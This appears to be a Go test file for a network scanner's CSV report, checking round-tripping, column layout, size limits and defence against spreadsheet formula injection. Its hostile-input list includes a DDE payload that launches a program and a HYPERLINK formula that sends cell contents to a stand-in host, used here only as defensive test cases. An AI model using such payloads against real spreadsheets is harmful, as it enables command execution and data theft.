package report_test

import (
	"bytes"
	"cmreach/scanner"
	"cmreach/scanner/record"
	"cmreach/scanner/report"
	"cmreach/scanner/verdict"
	"encoding/csv"
	"fmt"
	"net/netip"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"pgregory.net/rapid"
)

// readCSV reads the report with somebody else's reader, as columns by name.
func readCSV(t fataler, s string) (header []string, rows []map[string]string) {
	s, ok := strings.CutPrefix(s, "\ufeff")
	if !ok {
		t.Fatalf("no byte order mark: %.20q", s)
	}
	in := csv.NewReader(strings.NewReader(s))
	all, err := in.ReadAll()
	if err != nil {
		t.Fatalf("%v", err)
	}
	for _, cells := range all[1:] {
		row := map[string]string{}
		for i, c := range cells {
			if strings.ContainsAny(c, "\r\n\t\x00\x1b") {
				t.Fatalf("a control character in %q", c)
			}
			row[all[0][i]] = unguarded(c)
		}
		rows = append(rows, row)
	}
	if n := strings.Count(s, "\r\n"); n != len(all) || n != strings.Count(s, "\n") {
		t.Fatalf("%d lines for %d findings and the header", n, len(all)-1)
	}
	return all[0], rows
}

// formula is what a spreadsheet may compute, written here again: quotes and
// blanks go, and what is left begins with one of the characters.
func formula(s string) bool {
	s = strings.TrimLeft(s, " \u00a0\t\r\n'\"`\u2018\u2019\u201c\u201d\u3000\ufeff")
	for _, c := range []string{"=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20"} {
		if strings.HasPrefix(s, c) {
			return true
		}
	}
	return false
}

// unguarded takes the apostrophe of a guarded cell away, as the README says.
func unguarded(cell string) string {
	if rest, ok := strings.CutPrefix(cell, "'"); ok && formula(rest) {
		return rest
	}
	return cell
}

// fields are the texts of a finding that the file must give back.
func fields(f verdict.Finding) map[string]string {
	addr := ""
	if f.Addr.IsValid() {
		addr = f.Addr.String()
	}
	m := map[string]string{
		"profile": f.Profile, "requirement": f.Requirement, "from": string(f.From), "to": string(f.To), "host": f.Host, "addr": addr,
		"protocol": f.Protocol.String(), "port": fmt.Sprint(f.Port), "required": fmt.Sprint(f.Required), "any_of": f.AnyOf,
		"satisfied_by": f.SatisfiedBy, "state": f.State.String(), "reason": f.Reason, "assurance": f.Assurance.String(),
		"message": f.Message, "evidence": strings.Join(f.Evidence, " | "), "fix": f.Fix, "boundary": f.Boundary,
		"conflict": fmt.Sprint(f.Conflict),
	}
	for _, d := range f.Tags {
		m["tag:"+d.Key] = d.Value
	}
	return m
}

// What encoding/csv reads back are the findings.
func TestCSVReadsBack(t *testing.T) {
	text := rapid.StringOfN(rapid.SampledFrom([]rune("=+-@'\"`,;| aZ0ü日\uff1d")), 0, 12, -1)
	rapid.Check(t, func(t *rapid.T) {
		var hosts [][]verdict.Finding
		for i := range rapid.IntRange(1, 6).Draw(t, "hosts") {
			var h []verdict.Finding
			for _, row := range []string{"push/smb", "gpo/smb"} {
				f := oddFinding(text.Draw(t, "text"), rapid.SampledFrom(verdict.States).Draw(t, "state"))
				f.Host, f.Requirement = fmt.Sprintf("%s%d", text.Draw(t, "host"), i), row
				f.Profile, _, _ = strings.Cut(row, "/")
				f.Evidence = []string{strings.ReplaceAll(f.Message, "|", "/")}
				if len(h) > 0 {
					f.Host = h[0].Host
				}
				for _, key := range rapid.SliceOfNDistinct(rapid.SampledFrom([]string{"Site", "Owner", "=x", "floor"}), 0, 4, rapid.ID).Draw(t, "tags") {
					f.Tags = append(f.Tags, scanner.Detail{Key: key, Value: text.Draw(t, "value")})
				}
				h = append(h, f)
			}
			hosts = append(hosts, h)
		}
		run, err := report.Load(source(oddRun(t, hosts, "x", &record.End{})), report.Options{})
		if err != nil {
			t.Fatalf("%v", err)
		}
		var b bytes.Buffer
		if err := report.CSV(&b, run); err != nil {
			t.Fatalf("%v", err)
		}
		_, rows := readCSV(t, b.String())
		n := 0
		for _, h := range hosts {
			for _, f := range h {
				for name, want := range fields(f) {
					if got := rows[n][name]; got != want {
						t.Fatalf("finding %d has the %s %q, want %q", n, name, got, want)
					}
				}
				n++
			}
		}
		if n != len(rows) {
			t.Fatalf("%d lines for %d findings", len(rows), n)
		}
	})
}

// No cell of a hostile run is one that a spreadsheet computes.
func TestCSVIsNoProgram(t *testing.T) {
	for _, text := range []string{
		"=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", " =1", "'=1", "\"=1", "''=1", "\n=cmd|' /C calc'!A0", "\u00a0=1", "\uff1d1",
		"=HYPERLINK(\"http://198.18.0.1/\"&A1,\"x\")", "`=1", "\ufeff=1", "\u3000@x", ",=1", "a\",\"=1", "\x00=1", "\xff=1", strings.Repeat(" ", 100) + "=1",
	} {
		f := oddFinding(text, verdict.Blocked)
		f.Evidence, f.Boundary, f.SatisfiedBy, f.AnyOf = []string{text, "x"}, text, text, text
		f.Tags = []scanner.Detail{{Key: text, Value: text}, {Key: text, Value: text}}
		f.From, f.To = scanner.Role(text), scanner.Role(text)
		f.By, f.Between = netip.MustParseAddr("fe80::1%-1"), []netip.Addr{netip.MustParseAddr("fe80::1%=1")}
		out := render(t, report.CSV, load(t, oddRun(t, [][]verdict.Finding{{f}}, text, &record.End{}), report.Options{}))
		readCSV(t, out)
		all, err := csv.NewReader(strings.NewReader(out)).ReadAll()
		if err != nil || len(all) != 2 {
			t.Fatalf("%q: %d lines, %v", text, len(all), err)
		}
		for i, c := range all[1] {
			if !strings.HasPrefix(c, "'") && formula(c) {
				t.Errorf("%q gives the cell %s %q", text, all[0][i], c)
			}
		}
	}
}

func TestCSVBounds(t *testing.T) {
	f := oddFinding("pc", verdict.Blocked)
	f.Evidence = []string{strings.Repeat("ü=", 40000)}
	f.Ports = []verdict.PortFinding{{Port: 80, State: verdict.Open, Reason: "open.x"}, {Port: 81, State: verdict.Closed, Reason: "closed.y"}}
	for n := range 300 {
		f.Tags = append(f.Tags, scanner.Detail{Key: fmt.Sprint("t", n), Value: "v"})
	}
	f.Tags = append(f.Tags, scanner.Detail{Key: "t0", Value: "again"})
	header, rows := readCSV(t, render(t, report.CSV, load(t, oddRun(t, [][]verdict.Finding{{f}}, "x", &record.End{}), report.Options{})))
	if n := len(rows[0]["evidence"]); n > 32000 || n < 31990 || !strings.HasSuffix(rows[0]["evidence"], "...") {
		t.Errorf("%d bytes of evidence", n)
	}
	if got, want := rows[0]["ports"], "80 open open.x | 81 closed closed.y"; got != want {
		t.Errorf("ports %q, want %q", got, want)
	}
	if len(header) != 23+256+1 || rows[0]["tag:t255"] != "v" || rows[0]["tag:t0"] != "v" || !strings.HasSuffix(rows[0]["tags"], "t299=v | t0=again") {
		t.Errorf("%d columns, the last is %q", len(header), rows[0]["tags"])
	}
}

// The columns are the fields of the JSON report.
func TestCSVColumns(t *testing.T) {
	run := load(t, runs()[0].record(t), report.Options{})
	header, rows := readCSV(t, render(t, report.CSV, run))
	want := []string{
		"profile", "requirement", "from", "to", "host", "addr", "protocol", "port", "ports", "required", "any_of", "satisfied_by",
		"state", "seen", "reason", "assurance", "by", "between", "message", "evidence", "fix", "conflict", "boundary",
	}
	if d := cmp.Diff(want, header); d != "" {
		t.Error(d)
	}
	if len(rows) != run.Tally.All.Total() {
		t.Errorf("%d lines for %d findings", len(rows), run.Tally.All.Total())
	}
}
